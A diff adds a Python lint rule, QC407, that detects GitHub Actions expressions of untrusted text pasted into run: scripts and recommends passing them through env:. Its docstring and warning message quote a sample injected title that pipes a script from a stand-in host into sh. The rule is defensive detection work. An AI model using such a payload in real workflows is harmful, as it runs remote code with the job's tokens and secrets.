@@ -1,0 +1,61 @@
+"""QC407 expression-injection: a GitHub Actions `${{ }}` expression of text that someone else
+writes, pasted into a `run:` script.
+
+The runner evaluates `${{ ... }}` and pastes the result into the script before the shell
+reads it: an issue title, a pull request's branch name or body, a commit message becomes code.
+A title such as ``"; curl -s https://x.example/p | sh; echo "`` runs in the job, with its
+token and secrets. Passing the value through `env:` and reading `"$TITLE"` keeps it data.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from quotecheck.diagnostics import Severity
+from quotecheck.hosts.github_actions import INPUT_CONTEXTS, UNTRUSTED_CONTEXTS
+from quotecheck.rules.api import CheckContext, Finding, Rule, Template
+from quotecheck.rules.triggers import Trigger
+
+_INJECTION = Template(
+    "expression-becomes-code",
+    "`{written}` pastes {whose} into the script before the shell reads it",
+    "the runner replaces the expression with its value and then runs the script, so quotes, "
+    "`;`, `$(...)` and backticks in the value are code: {example} Pass it through the step's "
+    "`env:` (`env: {name}: {written}`) and read `\"${name}\"` in the script.")
+
+
+def _env_name(written: str) -> str:
+    last = written.strip("${} ").split(".")[-1]
+    name = "".join(c if c.isalnum() else "_" for c in last).upper()
+    return name if name and not name[0].isdigit() else "VALUE"
+
+
+def check(ctx: CheckContext) -> Iterator[Finding]:
+    host = ctx.trace.host
+    if host is None or host.format != "github-actions":
+        return
+    root = ctx.trace.root
+    for value in host.values:
+        severity: Severity
+        untrusted = bool(UNTRUSTED_CONTEXTS.search(value.written))
+        if untrusted:
+            whose = "text that whoever opens the issue, pull request or comment writes"
+            example = ("a title such as `\"; curl -s https://x.example/p | sh; echo \"` runs "
+                       "in this job, with its token and secrets.")
+            severity = "error"
+        elif INPUT_CONTEXTS.search(value.written):
+            # (whoever runs or calls the workflow can change it anyway: information)
+            whose = "an input's text (whoever runs or calls the workflow chooses it)"
+            example = "an input with a quote or a `;` breaks the script or runs code."
+            severity = "info"
+        else:
+            continue
+        yield Finding(value.span, _INJECTION(written=value.written, whose=whose,
+                                             example=example,
+                                             name=_env_name(value.written)),
+                      root, (), (), severity)
+
+
+RULE = Rule("QC407", "expression-injection",
+            "A `${{ }}` expression of someone else's text pasted into a `run:` script", "error",
+            check, tags=("host",), trigger=Trigger(formats=frozenset({"github-actions"})))
